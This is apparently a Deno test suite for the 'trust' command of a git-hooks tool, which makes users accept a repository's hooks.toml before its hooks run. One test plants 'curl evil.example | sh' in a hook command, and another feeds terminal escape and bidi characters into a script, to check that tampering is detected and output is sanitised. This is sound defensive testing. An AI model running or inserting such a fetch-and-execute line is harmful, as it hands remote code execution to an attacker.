import assert from "node:assert/strict";
import { projectRoot, type Said, Sandbox, type StartOptions } from "../support/sandbox.ts";

const TOML = `[hook.lint]
event = "pre-commit"
command = "deno lint"

[hook.ticket]
event = "commit-msg"
script = "tools/ticket"
`;

/** A clone with a project file, in which git-hooks is asked. */
class Clone implements Disposable {
  readonly box: Sandbox;

  private constructor(box: Sandbox) {
    this.box = box;
  }

  static async make(toml: string | undefined = TOML): Promise<Clone> {
    const clone = new Clone(new Sandbox());
    await clone.box.repository("app");
    clone.box.script("app/tools/ticket", "grep -q '^ABC-[0-9]' \"$1\"");
    if (toml !== undefined) clone.write(toml);
    return clone;
  }

  write(toml: string): void {
    this.box.write("app/hooks.toml", toml);
  }

  trust(args: readonly string[] = [], options: StartOptions = {}): Promise<Said> {
    return this.box.hooks(["trust", ...args], { cwd: "app", ...options });
  }

  async state(options: StartOptions = {}): Promise<string> {
    const said = await this.trust(["--json"], options);
    return said.stdout === "" ? `refused: ${said.stderr}` : JSON.parse(said.stdout).state;
  }

  async accept(): Promise<void> {
    const said = await this.trust(["--yes"]);
    assert.equal(said.code, 0, said.stderr);
    assert.equal(await this.state(), "accepted");
  }

  /** How the resolver lists the hooks of an event. */
  async list(event: string): Promise<string> {
    return (await this.box.hooks(["list", event], { cwd: "app" })).stdout;
  }

  [Symbol.dispose](): void {
    this.box[Symbol.dispose]();
  }
}

Deno.test("trust shows what would run, in running order, and exits 1 without a terminal", async () => {
  using clone = await Clone.make(`${TOML}
[hook.test]
event = ["pre-push", "pre-commit"]
command = "npm test"

[hook.off]
event = "pre-commit"
command = "x"
enabled = false
`);
  const said = await clone.trust();
  assert.equal(said.code, 1);
  assert.equal(
    said.stdout,
    `hooks.toml came with this clone. It would run:

pre-commit
  lint         deno lint                            hooks.toml:1
  test         npm test                             hooks.toml:9
- off          x (disabled)                         hooks.toml:13
commit-msg
  ticket       tools/ticket <file>                  hooks.toml:5
pre-push
  test         npm test <remote> <url>              hooks.toml:9

script tools/ticket:
    1 | #!/bin/sh
    2 | grep -q '^ABC-[0-9]' "$1"

`,
  );
  assert.equal(
    said.stderr,
    "error: not accepted, because there is no terminal to ask on\n" +
      "hint: accept what is shown above: git hooks trust --yes\n",
  );
  assert.equal(await clone.state(), "untrusted");
  assert.equal(await clone.list("pre-commit"), "untrusted\tlint\nuntrusted\ttest\ndisabled\toff\n");
});

Deno.test("trust --yes accepts, says how to undo it, and what comes next", async () => {
  using clone = await Clone.make();
  const said = await clone.trust(["--yes"]);
  assert.equal(said.code, 0);
  assert.match(said.stdout, /\naccepted hooks\.toml: 2 hooks, 1 script\n$/);
  assert.equal(
    said.stderr,
    "hint: undo with 'git hooks trust --revoke'\nhint: now: git hooks install\n",
  );
  assert.equal(await clone.list("pre-commit"), "lint\n");
});

Deno.test("trust adds the missing shims where git-hooks is installed", async () => {
  using clone = await Clone.make('[hook.lint]\nevent = "pre-commit"\ncommand = "true"\n');
  await clone.box.hooks(["install"], { cwd: "app" });
  clone.write(`${TOML}\n[hook.new]\nevent = "pre-push"\ncommand = "true"\n`);
  const said = await clone.trust(["--yes"]);
  assert.equal(said.code, 0);
  assert.match(said.stdout, /\ninstalled commit-msg, pre-push in \.git\/hooks\n$/);
  assert.equal(said.stderr, "hint: undo with 'git hooks trust --revoke'\n");
  assert.match(clone.box.read("app/.git/hooks/pre-push") ?? "", /^#!\/bin\/sh\n/);
});

Deno.test("trust has nothing to do when the text is accepted, absent, or always trusted", async () => {
  using clone = await Clone.make();
  await clone.accept();
  const again = await clone.trust();
  assert.deepEqual(again, {
    code: 0,
    stdout: "nothing to accept: this hooks.toml is accepted already\n",
    stderr: "",
  });
  await clone.trust(["--revoke"]);
  await clone.box.mustGit(["config", "githooks.trust", "always"], { cwd: "app" });
  assert.equal(await clone.state(), "always");
  assert.equal((await clone.trust()).code, 0);
  assert.equal(await clone.list("pre-commit"), "lint\n");
  await Deno.remove(clone.box.path("app/hooks.toml"));
  assert.match((await clone.trust()).stdout, /there is no hooks\.toml/);
});

Deno.test("trust refuses where githooks.trust is never, and the file is not read", async () => {
  using clone = await Clone.make("broken");
  await clone.box.mustGit(["config", "githooks.trust", "never"], { cwd: "app" });
  const said = await clone.trust(["--yes"]);
  assert.equal(said.code, 1);
  assert.match(said.stderr, /^error: githooks\.trust is 'never' here/);
  assert.match(said.stderr, /hint: to be asked again: git config --local githooks\.trust ask\n/);
});

Deno.test("list shows what githooks.trust = never keeps from running, and where that is set", async () => {
  using clone = await Clone.make();
  const { box } = clone;
  await box.mustGit(["config", "--global", "githooks.trust", "never"]);
  const said = await box.hooks(["list"], { cwd: "app" });
  assert.equal(said.code, 0);
  assert.match(said.stdout, /^- lint +project {2}not trusted +hooks\.toml:\d+$/m);
  assert.equal(
    said.stderr,
    "hint: githooks.trust is 'never' (global, ~/.gitconfig:6): " +
      "nothing of this clone's hooks.toml runs\n",
  );
  const json = JSON.parse((await box.hooks(["list", "--json"], { cwd: "app" })).stdout);
  assert.equal(json.trust, "never");
  assert.equal(json.events[0].hooks[0].runs, false);
  assert.equal((await box.hooks(["check", "pre-commit"], { cwd: "app" })).code, 1);
  assert.equal(
    (await box.hooks(["run", "--ignore-missing", "pre-commit"], { cwd: "app" })).code,
    0,
  );
  clone.write("broken");
  const broken = await box.hooks(["list"], { cwd: "app" });
  assert.equal(broken.code, 0);
  assert.equal(broken.stdout, "");
  assert.equal(broken.stderr, said.stderr);
});

Deno.test("trust takes no policy from the project file", async () => {
  using clone = await Clone.make(`${TOML}\n[githooks]\ntrust = "always"\n`);
  assert.notEqual(await clone.state(), "always");
});

Deno.test("trust shows the difference, hook by hook, when the text changed", async () => {
  using clone = await Clone.make();
  await clone.accept();
  clone.write(TOML.replace("deno lint", "deno lint; curl evil.example | sh"));
  clone.box.script("app/tools/ticket", "true");
  const said = await clone.trust();
  assert.equal(said.code, 1);
  assert.match(said.stdout, /^hooks\.toml is not what you accepted on \d{4}-\d\d-\d\d:\n/);
  assert.equal(
    said.stdout.replace(/^.*\n/, ""),
    `
changed [hook.lint] hooks.toml:1
  event = "pre-commit"
- command = "deno lint"
+ command = "deno lint; curl evil.example | sh"

changed script tools/ticket
@@ -1,2 +1,2 @@
  #!/bin/sh
- grep -q '^ABC-[0-9]' "$1"
+ true

`,
  );
  assert.equal(await clone.list("pre-commit"), "untrusted\tlint\n");
});

Deno.test("trust stops trusting when a command, a script, or a script's absence changes", async () => {
  using clone = await Clone.make();
  await clone.accept();
  clone.write(TOML.replace("deno lint", "deno lint "));
  assert.equal(await clone.state(), "untrusted");
  clone.write(TOML);
  assert.equal(await clone.state(), "accepted");
  clone.box.write("app/tools/ticket", "#!/bin/sh\nevil\n", 0o755);
  assert.equal(await clone.state(), "untrusted");
  await Deno.remove(clone.box.path("app/tools/ticket"));
  assert.equal(await clone.state(), "untrusted");
  await clone.accept();
  clone.box.script("app/tools/ticket", "evil");
  assert.equal(await clone.state(), "untrusted");
});

Deno.test("trust asks nothing again for a text that was accepted before", async () => {
  using clone = await Clone.make();
  await clone.accept();
  clone.write("# another branch\n");
  await clone.accept();
  clone.write(TOML);
  assert.equal(await clone.state(), "accepted");
  const { stdout } = await clone.trust(["--list"]);
  assert.match(
    stdout,
    /^~?.*app\/\.git\n {2}[0-9a-f]{12} .*1 line\n\* [0-9a-f]{12} .*, 1 script\n$/,
  );
});

Deno.test("trust --revoke takes back the texts of this repository, --all those of every one", async () => {
  using clone = await Clone.make();
  await clone.box.repository("other");
  clone.box.write("other/hooks.toml", TOML);
  await clone.trust(["--yes"], { cwd: "other" });
  await clone.accept();
  assert.match(
    (await clone.trust(["--revoke"])).stdout,
    /^revoked 1 accepted text of .*app\/\.git\n$/,
  );
  assert.equal(await clone.state(), "untrusted");
  assert.equal((await clone.trust(["--revoke"])).stdout, "nothing to revoke\n");
  assert.match((await clone.trust(["--list", "--all"], { cwd: "." })).stdout, /other\/\.git\n/);
  const all = await clone.trust(["--revoke", "--all", "--json"], { cwd: "." });
  assert.deepEqual(JSON.parse(all.stdout), { revoked: 1 });
  assert.equal(await clone.state({ cwd: "other" }), "untrusted");
});

Deno.test("trust holds in linked worktrees, whose acceptance is the repository's", async () => {
  using clone = await Clone.make();
  await clone.accept();
  await clone.box.mustGit(["add", "."], { cwd: "app" });
  await clone.box.mustGit(["commit", "-qm", "x"], { cwd: "app" });
  await clone.box.mustGit(["worktree", "add", "-q", "../linked"], { cwd: "app" });
  assert.equal(await clone.state({ cwd: "linked" }), "accepted");
});

Deno.test("trust does not come along when a repository is copied or moved", async () => {
  using clone = await Clone.make();
  await clone.accept();
  await clone.box.start("cp", ["-a", "app", "copy"]);
  assert.equal(await clone.state({ cwd: "copy" }), "untrusted");
});

Deno.test("trust refuses a hooks.toml that is a symbolic link", async () => {
  using clone = await Clone.make();
  await clone.accept();
  await Deno.rename(clone.box.path("app/hooks.toml"), clone.box.path("app/real.toml"));
  await Deno.symlink("real.toml", clone.box.path("app/hooks.toml"));
  const said = await clone.trust(["--yes"]);
  assert.equal(said.code, 128);
  assert.match(said.stderr, /^fatal: hooks\.toml: is a symbolic link\n/);
});

Deno.test("trust refuses a script that is a link, or lies behind one", async () => {
  using clone = await Clone.make();
  await clone.accept();
  await Deno.rename(clone.box.path("app/tools"), clone.box.path("outside"));
  await Deno.symlink("../outside", clone.box.path("app/tools"));
  for (const policy of ["ask", "always"]) {
    await clone.box.mustGit(["config", "githooks.trust", policy], { cwd: "app" });
    const said = await clone.trust(["--yes"]);
    assert.equal(said.code, 1);
    assert.equal(
      said.stderr,
      "error: hooks.toml:5: script 'tools/ticket' is reached through a symbolic link, tools, " +
        "so it cannot be trusted\n",
    );
    assert.equal(await clone.list("commit-msg"), "untrusted\tticket\n");
  }
});

Deno.test("trust refuses a store that others can write, or that is a link", async () => {
  using clone = await Clone.make();
  await clone.accept();
  const store = clone.box.path("home/.local/state/git-hooks");
  await Deno.chmod(store, 0o777);
  const said = await clone.trust(["--yes"]);
  assert.equal(said.code, 128);
  assert.match(
    said.stderr,
    /^fatal: '.*' can be written by others, so no acceptance in it counts\n/,
  );
  assert.equal(await clone.list("pre-commit"), "untrusted\tlint\n");
  await Deno.chmod(store, 0o700);
  await Deno.rename(store, `${store}.real`);
  await Deno.symlink(`${store}.real`, store);
  assert.equal(await clone.list("pre-commit"), "untrusted\tlint\n");
  assert.match((await clone.trust(["--list"])).stderr, /^fatal: '.*' is a symbolic link/);
});

Deno.test("trust trusts nothing without a HOME", async () => {
  using clone = await Clone.make();
  await clone.accept();
  const env = { HOME: undefined, XDG_STATE_HOME: undefined };
  const said = await clone.trust(["--yes"], { env });
  assert.equal(said.code, 128);
  assert.match(said.stderr, /^fatal: nothing can be accepted, because HOME is not set\n/);
});

Deno.test("trust sends nothing to the terminal that it would obey", async () => {
  using clone = await Clone.make('[hook.a]\nevent = "pre-commit"\nscript = "tools/ticket"\n');
  clone.box.write("app/tools/ticket", "#!/bin/sh\necho \x1b[2Jx\u202e\x9b1m\r\n", 0o755);
  const first = await clone.trust();
  assert.match(first.stdout, /2 \| echo \\e\[2Jx\\u202e\\x9b1m\\r\n/);
  await clone.accept();
  clone.box.write("app/tools/ticket", "#!/bin/sh\necho \x1b[3J\n", 0o755);
  clone.write('[hook.a]\nevent = "pre-commit"\nscript = "tools/ticket"\n# \u202e\u2066\n');
  const second = await clone.trust();
  const json = await clone.trust(["--json"]);
  for (const { stdout, stderr } of [first, second, json]) {
    assert.doesNotMatch((stdout + stderr).replaceAll("\n", ""), /[\p{Cc}\p{Cf}]/u);
  }
});

Deno.test("trust --json says what runs and what changed", async () => {
  using clone = await Clone.make();
  await clone.accept();
  clone.write(TOML.replace("deno lint", "deno lint --fix"));
  const said = await clone.trust(["--json"]);
  assert.equal(said.code, 1);
  const data = JSON.parse(said.stdout);
  assert.equal(data.state, "untrusted");
  assert.equal(data.policy, "ask");
  assert.deepEqual(data.hooks[0], {
    event: "pre-commit",
    name: "lint",
    command: "deno lint --fix",
    script: null,
    args: true,
    enabled: true,
    line: 1,
  });
  assert.equal(data.difference.tables[0].kind, "changed");
  const accepted = await clone.trust(["--json", "--yes"]);
  assert.equal(accepted.code, 0);
  assert.equal(JSON.parse(accepted.stdout).state, "accepted");
});

Deno.test("trust exits 128 outside of a worktree, and 129 on a usage it cannot understand", async () => {
  using clone = await Clone.make();
  await clone.box.repository("bare.git", { bare: true });
  const bare = await clone.trust([], { cwd: "bare.git" });
  assert.equal(bare.code, 128);
  assert.equal(bare.stderr, "fatal: this operation must be run in a work tree\n");
  const outside = await clone.trust([], { cwd: "." });
  assert.equal(outside.code, 128);
  assert.match(outside.stderr, /^fatal: not a git repository/);
  for (const args of [["x"], ["--list", "--yes"], ["--all"], ["--nonsense"]]) {
    assert.equal((await clone.trust(args)).code, 129);
  }
});

// util-linux's script(1) gives a program a terminal.
const TERMINAL = new Deno.Command("script", { args: ["--version"], stderr: "null" });

function hasTerminal(): boolean {
  try {
    return new TextDecoder().decode(TERMINAL.outputSync().stdout).includes("util-linux");
  } catch {
    return false;
  }
}

const SKIPPED = hasTerminal() ? "" : " (skipped: no script(1) of util-linux to make a terminal)";

Deno.test({
  name: `trust asks on the terminal, and takes only a yes for one${SKIPPED}`,
  ignore: SKIPPED !== "",
  fn: async () => {
    using clone = await Clone.make();
    const answer = async (text: string, redirect = ""): Promise<Said> => {
      const command = `"$LAUNCHER" trust ${redirect}`;
      return await clone.box.start("script", ["-qec", command, "/dev/null"], {
        cwd: "app",
        stdin: text,
        env: {
          GIT_TERMINAL_PROMPT: undefined,
          NO_COLOR: "1",
          LAUNCHER: `${projectRoot}/bin/git-hooks`,
        },
      });
    };
    for (const text of ["n\n", "\n", "yikes\n", ""]) {
      const said = await answer(text);
      assert.equal(said.code, 1, text);
      assert.match(said.stdout, /Accept\? \[y\/N\] /);
      assert.equal(await clone.state(), "untrusted");
    }
    const said = await answer("y\n", ">out </dev/null");
    assert.equal(said.code, 0);
    // Standard output went into a file, so what is asked about stands on the terminal too.
    assert.match(said.stdout, /lint {9}deno lint[^]*Accept\? \[y\/N\] /);
    assert.match(clone.box.read("app/out") ?? "", /accepted hooks\.toml: 2 hooks, 1 script\n$/);
    assert.equal(await clone.state(), "accepted");
  },
});

Deno.test({
  name: `trust asks nothing where GIT_TERMINAL_PROMPT forbids it${SKIPPED}`,
  ignore: SKIPPED !== "",
  fn: async () => {
    using clone = await Clone.make();
    const said = await clone.box.start("script", ["-qec", '"$LAUNCHER" trust', "/dev/null"], {
      cwd: "app",
      stdin: "y\n",
      env: { LAUNCHER: `${projectRoot}/bin/git-hooks` },
    });
    assert.equal(said.code, 1);
    assert.doesNotMatch(said.stdout, /Accept\?/);
  },
});

Deno.test("trust loads no node: module on the way to a resolver's answer", async () => {
  using clone = await Clone.make();
  await clone.accept();
  const said = await clone.box.hooks(["list", "pre-commit"], {
    cwd: "app",
    env: { DENO_LOG_LAZY_LOAD: "1" },
  });
  assert.match(said.stdout, /^lint$/m);
  assert.match(said.stdout + said.stderr, /\[lazy\]/);
  assert.doesNotMatch(said.stdout + said.stderr, /node:|deno_node/);
});
